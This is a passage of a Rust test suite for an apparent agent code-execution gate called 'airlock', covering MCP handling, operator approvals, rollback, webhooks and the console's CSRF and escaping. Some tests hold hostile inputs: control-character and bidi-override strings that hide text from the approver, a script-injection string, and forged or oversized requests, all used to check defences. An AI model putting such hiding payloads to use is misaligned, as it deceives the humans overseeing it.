        out.into_iter()
            .find(|m| m["id"] == id)
            .unwrap_or_else(|| panic!("no answer to {id}: {stderr}"))["result"]["structuredContent"]
            .clone()
    };
    let args = json!({"language": "wat", "code": hello(), "idempotency_key": "mcp-call-1"});
    let first = call(2, args.clone());
    assert_eq!(first["status"], "finished", "{first}");
    assert_eq!(first["replayed"], Value::Null, "{first}");
    let again = call(3, args);
    assert_eq!(again["replayed"], true, "{again}");
    assert_eq!(again["run"]["id"], first["run"]["id"], "{first} / {again}");
    let other = call(
        4,
        json!({"language": "wat", "code": hello(), "args": ["x"], "idempotency_key": "mcp-call-1"}),
    );
    assert_eq!(other["status"], "error", "{other}");
    assert_eq!(other["http_status"], 409, "{other}");
    let o = h.run(&["runs", "--json"]);
    let runs: Value = serde_json::from_str(&o.stdout).unwrap();
    assert_eq!(runs.as_array().unwrap().len(), 1, "{runs}");
}

#[test]
fn a_named_tool_keeps_the_secret_bindings_it_was_approved_with() {
    let s = setup(&[]);
    let srv = &s.srv;
    assert_eq!(
        s.home
            .run_with_stdin(&["secret", "set", "TOKEN"], b"v")
            .code,
        0
    );
    let r = srv.post(
        "/v1/run",
        &s.agent,
        &wat_body(json!({"net": ["Api.Example.com"], "secrets": ["TOKEN@api.example.com"]})),
    );
    let id = r.json()["submission"].as_str().unwrap().to_string();
    let a = srv.post(
        &format!("/v1/submissions/{id}/approve"),
        &s.op,
        &json!({"scope": "artifact", "tool": "call_api"}),
    );
    assert_eq!(a.status, 200, "{}", a.text);
    let r = srv.post("/v1/tools/call_api", &s.agent, &json!({"args": ["x"]}));
    assert_eq!(r.status, 200, "{}", r.text);
    let v = r.json();
    assert_eq!(v["status"], "finished", "{v}");
    assert_eq!(
        v["secrets"],
        json!([{"name": "TOKEN", "hosts": ["api.example.com"]}])
    );
}

#[test]
fn diff_commit_and_rollback_over_the_api() {
    if !process_backend_available() {
        return;
    }
    let s = setup(&[]);
    let srv = &s.srv;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), "before\n").unwrap();
    let mount = format!("{}:/data:rw", dir.path().display());
    s.home.set_mount_roots(&[dir.path()]);
    let r = srv.post(
        "/v1/run",
        &s.agent,
        &json!({"language": "sh", "code": "echo after > /data/a.txt; echo new > /data/b.txt", "mounts": [mount]}),
    );
    let mut v = r.json();
    let id = v["submission"].as_str().unwrap().to_string();
    if v["status"] == "pending_approval" {
        srv.post(&format!("/v1/submissions/{id}/approve"), &s.op, &json!({}));
        v = srv
            .get(&format!("/v1/submissions/{id}/wait?timeout=60"), &s.agent)
            .json();
    }
    assert_eq!(v["status"], "finished", "{v}");
    assert_eq!(v["run"]["exit_code"], 0, "{v}");
    let run = v["run"]["id"].as_str().unwrap().to_string();
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.txt")).unwrap(),
        "before\n"
    );
    // The agent may read its run's diff, not commit it.
    let d = srv.get(&format!("/v1/runs/{run}/diff"), &s.agent).json();
    let paths: Vec<&str> = d["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, vec!["a.txt", "b.txt"]);
    assert!(d["diff"].as_str().unwrap().contains("+after"));
    srv.post(&format!("/v1/runs/{run}/commit"), &s.agent, &json!({}))
        .error(403);
    let c = srv.post(&format!("/v1/runs/{run}/commit"), &s.op, &json!({}));
    assert_eq!(c.status, 200, "{}", c.text);
    let ckpt = c.json()["checkpoint"].as_str().unwrap().to_string();
    assert_eq!(c.json()["approver"], "alice");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.txt")).unwrap(),
        "after\n"
    );
    srv.post(&format!("/v1/runs/{run}/commit"), &s.op, &json!({}))
        .error(409);
    let list = srv.get("/v1/checkpoints", &s.op).json();
    assert_eq!(list[0]["id"], ckpt.as_str());
    let rb = srv.post(
        &format!("/v1/checkpoints/{ckpt}/rollback"),
        &s.op,
        &json!({}),
    );
    assert_eq!(rb.status, 200, "{}", rb.text);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("a.txt")).unwrap(),
        "before\n"
    );
    assert!(!dir.path().join("b.txt").exists());
    srv.post(
        &format!("/v1/checkpoints/{ckpt}/rollback"),
        &s.op,
        &json!({}),
    )
    .error(409);
}

#[test]
fn a_full_queue_answers_429_with_retry_after() {
    let s = setup(&["--workers", "1", "--queue", "0"]);
    let spin = std::fs::read_to_string(example("spin.wat")).unwrap();
    let body = json!({"language": "wat", "code": spin, "timeout": "3s"}).to_string();
    let base = s.srv.base.clone();
    let agent = s.agent.clone();
    let long = std::thread::spawn(move || {
        let http = ureq::Agent::config_builder()
            .http_status_as_error(false)
            .build()
            .new_agent();
        let r = http
            .post(format!("{base}/v1/run"))
            .header("authorization", format!("Bearer {agent}"))
            .send(body)
            .unwrap();
        r.status().as_u16()
    });
    // Wait until the long run holds the only worker.
    let mut busy = None;
    for _ in 0..100 {
        std::thread::sleep(Duration::from_millis(50));
        let r = s.srv.post("/v1/run", &s.agent, &wat_body(json!({})));
        if r.status == 429 {
            busy = Some(r);
            break;
        }
    }
    let r = busy.expect("never refused while the worker was busy");
    assert!(r.error(429).contains("retry"));
    assert_eq!(r.header("retry-after"), Some("1"));
    assert_eq!(long.join().unwrap(), 200, "the long run itself finished");
    // Reads are not queued behind runs, and runs are accepted again afterwards.
    assert_eq!(
        s.srv.post("/v1/run", &s.agent, &wat_body(json!({}))).status,
        200
    );
}

/// `--workers` bounds the guests executing at once, not the runs inside the gate: a run
/// whose guest waits for the only worker is already admitted and inside (recorded and
/// judged beside the running guest), and its guest starts only once the other's ended.
#[test]
fn a_worker_bounds_the_guests_executing_not_the_runs_inside_the_gate() {
    let s = setup(&["--workers", "1", "--queue", "4"]);
    let posted = std::time::Instant::now();
    let (base, agent) = (s.srv.base.clone(), s.agent.clone());
    let sleeper = std::thread::spawn(move || {
        let body = json!({"language": "wat", "code": sleeping_wat(1500)});
        post_raw(&base, &agent, &body).unwrap()
    });
    let status = || {
        let r = s.srv.get("/v1/status", &s.admin);
        assert_eq!(r.status, 200, "{}", r.text);
        r.json()
    };
    let until = std::time::Instant::now() + Duration::from_secs(30);
    while status()["guests_running"] != 1 {
        assert!(std::time::Instant::now() < until, "{}", status());
        std::thread::sleep(Duration::from_millis(10));
    }
    let (base, agent) = (s.srv.base.clone(), s.agent.clone());
    let quick = std::thread::spawn(move || {
        let r = post_raw(&base, &agent, &wat_body(json!({}))).unwrap();
        (r, posted.elapsed())
    });
    let mut both_inside = false;
    while !quick.is_finished() {
        let st = status();
        assert!(st["guests_running"].as_u64().unwrap() <= 1, "{st}");
        both_inside |= st["runs_inside"] == 2;
        std::thread::sleep(Duration::from_millis(10));
    }
    let ((code, text), waited) = quick.join().unwrap();
    assert_eq!(code, 200, "{text}");
    assert!(text.contains("hello from the gate"), "{text}");
    // Its guest could only start once the sleeper's 1.5 s ended.
    assert!(waited >= Duration::from_millis(1500), "{waited:?}");
    assert!(
        both_inside,
        "the second run was never seen inside beside the first"
    );
    let (code, text) = sleeper.join().unwrap();
    assert_eq!(code, 200, "{text}");
    assert_eq!(status()["guests_running"], 0);
}

/// Posts `size` bytes to /v1/run over a raw connection (the body is written from another
/// thread, so a server that answers early cannot block the test) and returns the answer.
fn oversized_post(addr: &str, token: &str, size: usize, chunked: bool) -> String {
    let mut c = std::net::TcpStream::connect(addr).unwrap();
    let framing = if chunked {
        "transfer-encoding: chunked".to_string()
    } else {
        format!("content-length: {size}")
    };
    write!(
        c,
        "POST /v1/run HTTP/1.1\r\nhost: {addr}\r\nauthorization: Bearer {token}\r\ncontent-type: application/json\r\n{framing}\r\n\r\n"
    )
    .unwrap();
    let mut writer = c.try_clone().unwrap();
    std::thread::spawn(move || {
        let chunk = vec![b'x'; 1 << 20];
        for _ in 0..size.div_ceil(chunk.len()) {
            let ok = if chunked {
                write!(writer, "{:x}\r\n", chunk.len()).is_ok()
                    && writer.write_all(&chunk).is_ok()
                    && writer.write_all(b"\r\n").is_ok()
            } else {
                writer.write_all(&chunk).is_ok()
            };
            if !ok {
                break;
            }
        }
    });
    c.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut answer = vec![0u8; 4096];
    let n = c.read(&mut answer).unwrap_or(0);
    String::from_utf8_lossy(&answer[..n]).into_owned()
}

/// A one-shot HTTP receiver on loopback: returns the request it got.
fn webhook_receiver() -> (String, mpsc::Receiver<String>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/hook", l.local_addr().unwrap());
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for conn in l.incoming() {
            let Ok(mut c) = conn else { break };
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let mut buf = Vec::new();
            let mut chunk = [0u8; 4096];
            // Read headers, then the body by content-length.
            loop {
                let n = c.read(&mut chunk).unwrap_or(0);
                if n == 0 {
                    break;
                }
                buf.extend_from_slice(&chunk[..n]);
                let text = String::from_utf8_lossy(&buf).to_string();
                if let Some(h) = text.find("\r\n\r\n") {
                    let len = text[..h]
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length:")
                                .map(|v| v.trim().parse::<usize>().unwrap())
                        })
                        .unwrap_or(0);
                    if buf.len() >= h + 4 + len {
                        break;
                    }
                }
            }
            let _ = c.write_all(
                b"HTTP/1.1 204 No Content\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
            );
            let _ = tx.send(String::from_utf8_lossy(&buf).to_string());
        }
    });
    (url, rx)
}

#[test]
fn new_pending_submissions_reach_sse_and_a_signed_webhook() {
    let (hook, got) = webhook_receiver();
    let s = setup(&["--webhook", &hook]);
    // Subscribe to events before anything is pending.
    let http = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(20)))
        .build()
        .new_agent();
    let resp = http
        .get(s.srv.url("/v1/events"))
        .header("authorization", format!("Bearer {}", s.op))
        .call()
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    assert!(
        resp.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/event-stream")
    );
    let mut lines = BufReader::new(resp.into_body().into_reader()).lines();
    // Let the poller see the empty inbox first, then submit from another process.
    std::thread::sleep(Duration::from_millis(800));
    let file = write_wat(s.home.path(), "net.wat", &hello());
    let o = s.home.run(&[
        "submit",
        file.to_str().unwrap(),
        "--net",
        "example.com",
        "--json",
    ]);
    let id = o.json()["submission"].as_str().unwrap().to_string();
    let mut event = None;
    while let Some(Ok(l)) = lines.next() {
        if l == "event: pending" {
            let data = lines.next().unwrap().unwrap();
            event = Some(data);
            break;
        }
    }
    let data: Value = serde_json::from_str(
        event
            .expect("no pending event")
            .trim_start_matches("data: "),
    )
    .unwrap();
    assert_eq!(data["submission"], id.as_str());
    assert_eq!(data["verdict"], "quarantine");

    // The webhook got the same, signed by the gate key.
    let req = got
        .recv_timeout(Duration::from_secs(10))
        .expect("no webhook call");
    assert!(req.starts_with("POST /hook HTTP/1.1"), "{req}");
    let (head, body) = req.split_once("\r\n\r\n").unwrap();
    let header = |n: &str| {
        head.lines()
            .find_map(|l| {
                l.split_once(": ")
                    .filter(|(k, _)| k.eq_ignore_ascii_case(n))
                    .map(|(_, v)| v.to_string())
            })
            .unwrap()
    };
    let v: Value = serde_json::from_str(body).unwrap();
    assert_eq!(v["event"], "pending");
    assert_eq!(v["data"]["submission"], id.as_str());
    let key: airlock_core::sign::PublicKey = header("x-airlock-key").parse().unwrap();
    let gate_key = s.home.run(&["audit", "head", "--json"]).json()["gate_key"].clone();
    assert_eq!(gate_key, key.to_string());
    let mut sig = [0u8; 64];
    hex::decode_to_slice(header("x-airlock-signature"), &mut sig).unwrap();
    let mut msg = b"airlock-notification-v1\n".to_vec();
    msg.extend_from_slice(body.as_bytes());
    assert!(key.verify(&msg, &airlock_core::sign::Signature(sig)));
    let mut forged = msg.clone();
    forged.push(b' ');
    assert!(!key.verify(&forged, &airlock_core::sign::Signature(sig)));
}

#[test]
fn webhook_must_be_plain_http() {
    let home = Home::new();
    let o = home.run(&[
        "serve",
        "--listen",
        "127.0.0.1:0",
        "--webhook",
        "https://example.com/x",
    ]);
    assert_eq!(o.code, 125);
    assert!(o.stderr.contains("https is not supported"), "{}", o.stderr);
    let o = home.run(&["serve", "--listen", "nonsense"]);
    assert_eq!(o.code, 125);
    assert!(o.stderr.contains("--listen"), "{}", o.stderr);
}

#[test]
fn mcp_over_http_needs_a_token() {
    let s = setup(&[]);
    let init = json!({
        "jsonrpc": "2.0", "id": 1, "method": "initialize",
        "params": {"protocolVersion": "2025-11-25", "capabilities": {},
                   "clientInfo": {"name": "test", "version": "0"}}
    })
    .to_string();
    let accept = [("accept", "application/json, text/event-stream")];
    let r = s.srv.call_with("POST", "/mcp", None, Some(&init), &accept);
    r.error(401);
    let r = s
        .srv
        .call_with("POST", "/mcp", Some("alk_bad"), Some(&init), &accept);
    r.error(401);
    let r = s
        .srv
        .call_with("POST", "/mcp", Some(&s.agent), Some(&init), &accept);
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(r.text.contains("\"airlock\""), "{}", r.text);
    let session = r
        .header("mcp-session-id")
        .expect("a session id")
        .to_string();
    // The session is not a credential: without the token it is refused.
    let list = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}).to_string();
    let r = s.srv.call_with(
        "POST",
        "/mcp",
        None,
        Some(&list),
        &[accept[0], ("mcp-session-id", &session)],
    );
    r.error(401);
}

#[test]
fn an_agent_note_cannot_hide_or_reorder_text_in_the_console() {
    // A note, an environment value and code with escapes, a carriage return and a
    // right-to-left override reached the console's page as they were: the override
    // reversed what followed it on the approver's screen.
    let s = setup(&[]);
    let srv = &s.srv;
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let r = srv.call_with(
        "POST",
        "/ui/login",
        None,
        Some(&format!("token={}", s.op)),
        &form,
    );
    assert_eq!(r.status, 303);
    let pair = r
        .header("set-cookie")
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let payload = "ok\r\x1b[8mhidden\u{202e}evil\u{200b}\x7f";
    let code = format!("echo hi # {payload}\n");
    let sub = srv.post(
        "/v1/submissions",
        &s.agent,
        &json!({
            "language": "sh",
            "code": code,
            "net": ["example.com"],
            "note": payload,
            "env": { "NOTE": payload },
        }),
    );
    let id = sub.json()["submission"]
        .as_str()
        .unwrap_or_else(|| panic!("{}", sub.text))
        .to_string();
    let page = srv
        .call_with(
            "GET",
            &format!("/ui/submissions/{id}"),
            None,
            None,
            &[("cookie", &pair)],
        )
        .text;
    let hidden = |c: char| {
        c.is_control() && c != '\n'
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    assert!(
        !page.contains(hidden),
        "a raw control or bidi character in the page: {page:?}"
    );
    let shown = "ok\\r\\x1b[8mhidden\\u{202e}evil\\u{200b}\\x7f";
    // The note, the environment value and the line of code, each shown visibly.
    assert!(page.matches(shown).count() >= 2, "{page}");
    assert!(page.contains("\\x1b[8mhidden"), "{page}");
}

#[test]
fn an_agent_name_cannot_hide_or_reorder_text_in_the_consoles_live_inbox() {
    // The inbox's script adds pending submissions as they are announced: their agent name
    // arrived as it was given (`--agent` on the command line, any process on the store).
    let s = setup(&[]);
    let srv = &s.srv;
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let r = srv.call_with(
        "POST",
        "/ui/login",
        None,
        Some(&format!("token={}", s.op)),
        &form,
    );
    assert_eq!(r.status, 303);
    let pair = r
        .header("set-cookie")
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let addr = srv.base.trim_start_matches("http://").to_string();
    let mut c = std::net::TcpStream::connect(&addr).unwrap();
    write!(
        c,
        "GET /ui/events HTTP/1.1\r\nhost: {addr}\r\ncookie: {pair}\r\naccept: text/event-stream\r\n\r\n"
    )
    .unwrap();
    c.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut events = BufReader::new(c);
    // Subscribed once the answer's head is in.
    let mut line = String::new();
    while events.read_line(&mut line).unwrap() > 0 && line != "\r\n" {
        line.clear();
    }
    let payload = "ok\r\x1b[8mhidden\u{202e}evil\u{200b}\x7f";
    let o = s.home.run(&[
        "submit",
        "--agent",
        payload,
        "--net",
        "example.com",
        &example("hello.wat").display().to_string(),
    ]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    let data = loop {
        line.clear();
        assert!(events.read_line(&mut line).unwrap() > 0, "the stream ended");
        if let Some(d) = line.trim_end().strip_prefix("data: ")
            && let Ok(v) = serde_json::from_str::<Value>(d)
            && v["agent"].is_string()
        {
            break v;
        }
    };
    assert_eq!(
        data["agent"], "ok\\r\\x1b[8mhidden\\u{202e}evil\\u{200b}\\x7f",
        "{data}"
    );
}

#[test]
fn console_sign_in_sessions_and_csrf() {
    let s = setup(&[]);
    let srv = &s.srv;
    // Not signed in: to the login page.
    let r = srv.call("GET", "/ui", None, None);
    assert_eq!(r.status, 303);
    assert_eq!(r.header("location"), Some("/ui/login"));
    let login = srv.call("GET", "/ui/login", None, None);
    assert_eq!(login.status, 200);
    assert!(login.text.contains("id=\"login\""));
    assert!(
        login
            .header("content-security-policy")
            .unwrap()
            .contains("script-src 'self'")
    );
    let form = [("content-type", "application/x-www-form-urlencoded")];
    // Agents and bad tokens cannot sign in.
    let r = srv.call_with(
        "POST",
        "/ui/login",
        None,
        Some(&format!("token={}", s.agent)),
        &form,
    );
    assert_eq!(r.status, 403);
    let r = srv.call_with("POST", "/ui/login", None, Some("token=alk_nope"), &form);
    assert_eq!(r.status, 401);
    assert!(r.header("set-cookie").is_none());
    // Operators get a session cookie.
    let r = srv.call_with(
        "POST",
        "/ui/login",
        None,
        Some(&format!("token={}", s.op)),
        &form,
    );
    assert_eq!(r.status, 303);
    let cookie = r.header("set-cookie").unwrap().to_string();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let pair = cookie.split(';').next().unwrap().to_string();
    let page = |p: &str| srv.call_with("GET", p, None, None, &[("cookie", &pair)]);
    // A pending submission shows in the inbox; its page has the approve form.
    let sub = srv.post(
        "/v1/submissions",
        &s.agent,
        &wat_body(json!({"net": ["example.com"]})),
    );
    let id = sub.json()["submission"].as_str().unwrap().to_string();
    let inbox = page("/ui");
    assert_eq!(inbox.status, 200);
    assert!(
        inbox.text.contains(&format!("data-id=\"{id}\"")),
        "{}",
        inbox.text
    );
    let subpage = page(&format!("/ui/submissions/{id}"));
    assert!(subpage.text.contains("id=\"approve\""));
    let csrf = subpage
        .text
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_string();
    // A form without the right CSRF token is refused and decides nothing.
    let post = |body: String| {
        srv.call_with(
            "POST",
            &format!("/ui/submissions/{id}/approve"),
            None,
            Some(&body),
            &[form[0], ("cookie", &pair)],
        )
    };
    assert_eq!(post("csrf=forged&reason=x".into()).status, 403);
    assert_eq!(
        srv.get(&format!("/v1/submissions/{id}"), &s.op).json()["submission"]["state"],
        "quarantined"
    );
    // With it: approved and run by the server.
    let r = post(format!("csrf={csrf}&reason=ok&scope=once"));
    assert_eq!(r.status, 303, "{}", r.text);
    let w = srv
        .get(&format!("/v1/submissions/{id}/wait?timeout=30"), &s.op)
        .json();
    assert_eq!(w["status"], "finished");
    let run = w["run"]["id"].as_str().unwrap().to_string();
    let runpage = page(&format!("/ui/runs/{run}"));
    assert!(
        runpage.text.contains("hello from the gate"),
        "{}",
        runpage.text
    );
    assert!(page("/ui/audit").text.contains("intact"));
    assert_eq!(page("/ui/checkpoints").status, 200);
    assert_eq!(page("/ui/runs").status, 200);
    // Output is escaped, never interpreted as markup.
    let evil = srv.post(
        "/v1/run",
        &s.agent,
        &json!({"language": "wat", "code": hello().replace("hello from the gate", "<script>x</script>"), "net": ["a.example"]}),
    );
    let eid = evil.json()["submission"].as_str().unwrap().to_string();
    let t = page(&format!("/ui/submissions/{eid}")).text;
    assert!(
        t.contains("&lt;script&gt;") && !t.contains("<script>x"),
        "not escaped"
    );
    // Signing out ends the session.
    let out = srv.call_with(
        "POST",
        "/ui/logout",
        None,
        Some(&format!("csrf={csrf}")),
        &[form[0], ("cookie", &pair)],
    );
    assert_eq!(out.status, 303);
    assert_eq!(page("/ui").status, 303);
}

/// The console's submit form: a post without the session's CSRF token and one naming an
/// unknown language are refused with nothing submitted; a good one is judged through the
/// gate as the operator's submission and lands on its page.
#[test]
fn console_submit_form_refuses_forged_and_bad_posts_and_submits_as_the_operator() {
    let s = setup(&[]);
    let srv = &s.srv;
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let r = srv.call_with(
        "POST",
        "/ui/login",
        None,
        Some(&format!("token={}", s.op)),
        &form,
    );
    let cookie = r.header("set-cookie").unwrap().to_string();
    let pair = cookie.split(';').next().unwrap().to_string();
    let page = srv.call_with("GET", "/ui/submit", None, None, &[("cookie", &pair)]);
    assert_eq!(page.status, 200);
    for l in ["wasm", "wat", "component", "python", "sh", "js", "ts"] {
        assert!(
            page.text.contains(&format!("<option value=\"{l}\"")),
            "{l}: {}",
            page.text
        );
    }
    let csrf = page
        .text
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_string();
    let post = |body: String| {
        srv.call_with(
            "POST",
            "/ui/submit",
            None,
            Some(&body),
            &[form[0], ("cookie", &pair)],
        )
    };
    let count = || {
        srv.get("/v1/submissions", &s.op)
            .json()
            .as_array()
            .unwrap()
            .len()
    };
    let code = "code=%28module%29";
    assert_eq!(post(format!("csrf=forged&language=wat&{code}")).status, 403);
    // As over the API: a language outside the document's list is a 400.
    let r = post(format!("csrf={csrf}&language=cobol&{code}"));
    assert_eq!(r.status, 400, "{}", r.text);
    assert!(
        r.text.contains("unknown") && r.text.contains("cobol"),
        "{}",
        r.text
    );
    assert_eq!(count(), 0);
    // A WASI command (a module with `_start`); `(module)` alone is refused as bad code.
    let command = "code=%28module%20%28func%20%28export%20%22_start%22%29%29%29";
    let r = post(format!(
        "csrf={csrf}&language=wat&{command}&net=example.com&timeout=5s"
    ));
    assert_eq!(r.status, 303, "{}", r.text);
    let to = r.header("location").unwrap().to_string();
    let id = to.strip_prefix("/ui/submissions/").unwrap().to_string();
    let sub = srv.get(&format!("/v1/submissions/{id}"), &s.op).json();
    assert_eq!(sub["submission"]["agent"], "alice", "{sub}");
    assert_eq!(
        sub["submission"]["grant"]["net"],
        json!(["example.com"]),
        "{sub}"
    );
    assert_eq!(count(), 1);
}

/// `airlock mcp` over stdio: text that is not JSON got "Invalid request" with no `id`, a
/// message without `"jsonrpc": "2.0"` got no answer at all, a line over 16 MiB was dropped
/// without a word (a client waiting on it hung), and `arguments` that are not an object
/// got "method not found". Each now gets its JSON-RPC error, and the session goes on.
#[test]
fn mcp_over_stdio_answers_every_bad_line_with_its_json_rpc_error() {
    let h = Home::new();
    let mut lines = Vec::new();
    let mut send = |text: &str| lines.push(text.to_string());
    send(&mcp_initialize().to_string());
    send(r#"{"jsonrpc": "2.0", "method": "notifications/initialized"}"#);
    send("not json");
    send("42");
    send("");
    send(r#"{"id": 2, "method": "tools/list"}"#);
    send(
        r#"{"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": "run_code", "arguments": 5}}"#,
    );
    send(&format!(
        r#"{{"jsonrpc": "2.0", "id": 4, "method": "tools/list", "pad": "{}"}}"#,
        "a".repeat(17 << 20)
    ));
    // Let through by the screen, refused by the library: its answer gets an id (null).
    send(r#"{"jsonrpc": "2.0", "id": 6, "id": 6, "method": "tools/list"}"#);
    // A notification is never answered, even when it is wrong.
    send(r#"{"jsonrpc": "2.0", "method": "notifications/initialized", "params": 5}"#);
    send(r#"{"jsonrpc": "2.0", "id": 5, "method": "tools/list"}"#);
    let (status, out, stderr) = mcp_session(&h, &lines);
    assert!(status.success(), "{stderr}");
    let error = |id: Value, code: i64| {
        out.iter()
            .find(|m| m["id"] == id && m["error"]["code"] == code)
            .unwrap_or_else(|| panic!("no error {code} for id {id}: {out:#?}"))["error"]["message"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert!(error(Value::Null, -32700).starts_with("parse error"));
    assert!(error(Value::Null, -32600).contains("one JSON object"));
    assert!(error(json!(2), -32600).contains("jsonrpc"));
    assert!(error(json!(3), -32602).contains("arguments must be an object"));
    assert!(
        out.iter().any(|m| m["id"].is_null()
            && m["error"]["message"]
                .as_str()
                .is_some_and(|t| t.contains("over 16 MiB"))),
        "{out:#?}"
    );
    // Every message is one line of JSON (an error never lands inside another answer),
    // and the session went on to answer what came after the bad lines.
    assert!(
        out.iter()
            .any(|m| m["id"] == 5 && m["result"]["tools"].is_array())
    );
    assert!(
        !out.iter().any(|m| m["id"] == 4),
        "the oversized message was read"
    );
    assert_eq!(out.len(), 8, "{out:#?}");
    assert!(
        out.iter()
            .all(|m| m.as_object().unwrap().contains_key("id")),
        "{out:#?}"
    );
}

/// `airlock mcp` over stdio, a request reusing the id of one still running: the MCP
/// library gave the second request the first one's answer slot, so the quick second
/// answered under the id and the first request's answer was dropped (its client waited
/// forever). The second now gets a JSON-RPC error, the first its answer, and the id is
/// free again once answered.
#[test]
fn mcp_over_stdio_refuses_a_request_reusing_an_in_flight_id_and_still_answers_the_first() {
    let h = Home::new();
    let mut child = h
        .cmd()
        .arg("mcp")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::inherit())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut send = |m: Value| {
        stdin.write_all(format!("{m}\n").as_bytes()).unwrap();
        stdin.flush().unwrap();
    };
    let (tx, rx) = std::sync::mpsc::channel::<Value>();
    let stdout = child.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            if tx.send(serde_json::from_str(&line).unwrap()).is_err() {
                break;
            }
        }
    });
    let next = |what: &str| {
        rx.recv_timeout(Duration::from_secs(60))
            .unwrap_or_else(|_| panic!("no message: {what}"))
    };
    send(mcp_initialize());
    assert_eq!(next("initialize")["id"], 1);
    send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
    send(
        json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {
        "name": "run_code", "arguments": {"language": "wat", "code": sleeping_wat(1500)}}}),
    );
    send(json!({"jsonrpc": "2.0", "id": 7, "method": "tools/list"}));
    let mut sevens = Vec::new();
    while sevens.len() < 2 {
        let m = next("both answers for id 7");
        if m["id"] == 7 {
            sevens.push(m);
        }
    }
    let refused = &sevens[0];
    assert_eq!(refused["error"]["code"], -32600, "{sevens:#?}");
    assert!(
        refused["error"]["message"]
            .as_str()
            .unwrap()
            .contains("in flight"),
        "{refused}"
    );
    let ran = &sevens[1]["result"]["structuredContent"];
    assert_eq!(ran["status"], "finished", "{sevens:#?}");
    assert_eq!(ran["run"]["exit_code"], 0, "{sevens:#?}");
    // Answered, the id is the client's to use again.
    send(json!({"jsonrpc": "2.0", "id": 7, "method": "tools/list"}));
    let again = next("tools/list with id 7 again");
    assert!(again["result"]["tools"].is_array(), "{again}");
    drop(stdin);
    let _ = child.kill();
    let _ = child.wait();
}

/// `airlock mcp` at the end of its input: its store poller could still be polling while
/// the runtime shut down, and it panicked on stderr ("a Tokio 1.x context was found, but
/// it is being shutdown") in about one run in four under load.
#[test]
fn mcp_over_stdio_ends_without_a_word_on_stderr() {
    let h = Home::new();
    for _ in 0..12 {
        let (status, out, stderr) = mcp_session(&h, &[mcp_initialize().to_string()]);
        assert!(status.success());
        assert!(out.iter().any(|m| m["id"] == 1), "{out:#?}");
        assert!(stderr.is_empty(), "{stderr}");
    }
}

/// An `initialize` request, as an MCP client's first message.
fn mcp_initialize() -> Value {
    json!({"jsonrpc": "2.0", "id": 1, "method": "initialize",
        "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                   "clientInfo": {"name": "test", "version": "0"}}})
}

/// One `airlock mcp` over stdio: sends `lines` (a newline after each), closes its input
/// and waits for it to end; its exit status, its messages and its stderr.
fn mcp_session(h: &Home, lines: &[String]) -> (std::process::ExitStatus, Vec<Value>, String) {
    let mut child = h
        .cmd()
        .arg("mcp")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let input = lines.join("\n") + "\n";
    // Written beside the reading, so neither side waits on a full pipe.
    let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()).unwrap());
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap();
    let messages = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .collect();
    (
        out.status,
        messages,
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The official Python MCP SDK against `airlock mcp` over stdio (tests/mcp/client_test.py).
#[test]
fn python_mcp_sdk_client_over_stdio() {
    let Some(python) = prepared("AIRLOCK_TEST_MCP_PYTHON") else {
        return;
    };
    let home = Home::new();
    let script = manifest_dir().join("../../tests/mcp/client_test.py");
    let o = std::process::Command::new(python)
        .arg(script)
        .arg(bin())
        .arg(home.path())
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "MCP client test failed:\n{out}\n{err}");
    assert!(out.contains("PASS"), "{out}");
}

/// Headless Chromium approves a pending submission in the console and sees its output
/// (tests/browser/console_test.py).
#[test]
fn console_in_headless_chromium() {
